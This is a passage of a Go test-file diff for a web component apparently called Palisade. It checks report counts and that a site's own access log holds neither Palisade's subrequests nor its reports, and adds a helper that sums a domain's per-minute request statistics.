+	if s := reports.Stats(); s.Counted != 20 || s.Requests != 20 || s.UnknownKey+s.UnknownReason+s.BadLine+s.RefusedPeer+s.Oversize != 0 {
+		t.Errorf("reuse reports: %+v; want 20 lines of 1 request, nothing refused", s)
+	}
+	b, err := os.ReadFile(accessLog)
+	if err != nil {
+		t.Fatal(err)
+	}
+	if n := bytes.Count(b, []byte("\n")); n != 43 {
+		t.Errorf("the site's own access log has %d lines, want 43 (the requests, each once)", n)
+	}
+	if bytes.Contains(b, []byte("/_palisade/")) || bytes.Contains(b, []byte("v1 ")) {
+		t.Errorf("the site's own access log got Palisade's subrequests or reports:\n%s", b)
+	}
+}
+
+// countedRequests is the website's requests in its minute statistics.
+func countedRequests(t *testing.T, pal *testenv.Stack, domain string) int64 {
+	t.Helper()
+	ctx, cancel := context.WithTimeout(context.Background(), 10*time.Second)
+	defer cancel()
+	pal.Recorder.Flush(ctx)
+	now := pal.Clock.Now()
+	pts, err := pal.Service.Stats(ctx, pal.Caller, domain, "minute", now.Add(-time.Hour), now.Add(time.Hour))
+	if err != nil {
+		t.Fatal(err)
+	}
+	var n int64
+	for _, p := range pts {
+		n += p.Count
+	}
+	return n
 }
